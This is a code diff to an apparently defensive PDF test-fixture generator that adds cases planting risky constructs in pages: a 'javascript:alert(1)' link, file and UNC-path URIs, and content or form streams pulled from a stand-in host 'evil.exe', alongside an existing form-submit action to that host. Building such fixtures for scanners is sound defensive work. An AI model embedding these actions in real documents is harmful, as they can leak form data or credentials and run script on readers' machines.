@@ -107,11 +107,22 @@ def place(kind: str, pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
         case "submit":
             send = Dictionary(S=Name.SubmitForm, F=String("https://evil.exe"))
             page.obj.Annots = Array([Dictionary(Subtype=Name.Widget, Rect=box, A=send)])
+        case "script as an address" | "file as an address" | "host as an address":
+            address = {"s": "javascript:alert(1)", "f": "file:///evil", "h": "\\\\evil\\a"}[kind[0]]
+            go = Dictionary(S=Name.URI, URI=String(address))
+            page.obj.Annots = Array([Dictionary(Subtype=Name.Link, Rect=box, A=go)])
+        case "stream elsewhere":
+            page.obj.Contents = Stream(pdf, b"", F=String("https://evil.exe"))
+        case "page elsewhere":
+            other = Dictionary(F=String("https://evil.exe"), Page=0)
+            form = Stream(pdf, b"", Subtype=Name.Form, BBox=box, Ref=other)
+            page.obj.Resources = Dictionary(XObject=Dictionary(X=pdf.make_indirect(form)))
 
 
 KINDS = (
     *("open", "indirect open", "names", "attachment", "associated", "page", "annotation", "chain"),
-    *("pinned file", "form", "xfa", "outline", "submit"),
+    *("pinned file", "form", "xfa", "outline", "submit", "script as an address"),
+    *("file as an address", "host as an address", "stream elsewhere", "page elsewhere"),
 )
 
 
